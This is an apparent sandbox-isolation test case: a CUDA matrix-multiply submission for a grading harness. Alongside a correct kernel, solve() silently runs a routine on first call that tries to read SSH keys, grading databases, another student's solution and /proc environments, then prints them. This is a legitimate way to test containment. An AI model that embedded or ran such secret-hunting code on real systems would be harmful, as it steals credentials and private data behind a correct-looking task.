// expect: ACCEPTED
// requires: sandbox
// At run time, tries every way it knows to read private files: the planted folder directly, through
// every /proc/PID/root and /proc/PID/cwd it can see (on a GPU the worker shares the PID namespace,
// so the grader's own process is listed), and every /proc/PID/environ. Whatever it reads, it
// prints; the harness checks that no planted secret reached any output. It computes C correctly.
#include <cuda_runtime.h>
#include <dirent.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

static void dump(const std::string& path) {
    FILE* f = std::fopen(path.c_str(), "rb");
    if (!f) return;
    char buf[4096];
    size_t n = std::fread(buf, 1, sizeof buf - 1, f);
    std::fclose(f);
    for (size_t i = 0; i < n; ++i) if (buf[i] == 0) buf[i] = ' ';
    buf[n] = 0;
    std::printf("read %s: %s\n", path.c_str(), buf);
}

static void hunt() {
    const char* inside[] = {"/secret.h", "/home/.ssh/id_rsa", "/class/results.sqlite3.secret-seed",
                            "/class/results.sqlite3", "/submissions/other_student/solution.cu"};
    for (const char* name : inside) dump(std::string("@PLANTED@") + name);
    DIR* proc = opendir("/proc");
    if (!proc) return;
    int seen = 0;
    for (dirent* e; (e = readdir(proc)) != nullptr && seen < 400;) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        ++seen;
        std::string pid = std::string("/proc/") + e->d_name;
        dump(pid + "/environ");
        for (const char* name : inside) {
            dump(pid + "/root@PLANTED@" + name);
            dump(pid + "/cwd/" + name);
        }
    }
    closedir(proc);
    std::fflush(stdout);
}

__global__ void matmul_naive(const float* A, const float* B, float* C, int M, int N, int K) {
    int col = blockIdx.x * blockDim.x + threadIdx.x;
    int row = blockIdx.y * blockDim.y + threadIdx.y;
    if (row < M && col < K) {
        float sum = 0.0f;
        for (int i = 0; i < N; ++i) sum += A[(size_t)row * N + i] * B[(size_t)i * K + col];
        C[(size_t)row * K + col] = sum;
    }
}

static void launch(const float* A, const float* B, float* C, int M, int N, int K) {
    dim3 block(16, 16);
    dim3 grid((K + 15) / 16, (M + 15) / 16);
    matmul_naive<<<grid, block>>>(A, B, C, M, N, K);
}

extern "C" void solve(const float* A, const float* B, float* C, int M, int N, int K) {
    static bool once = (hunt(), true);
    (void)once;
    launch(A, B, C, M, N, K);
}
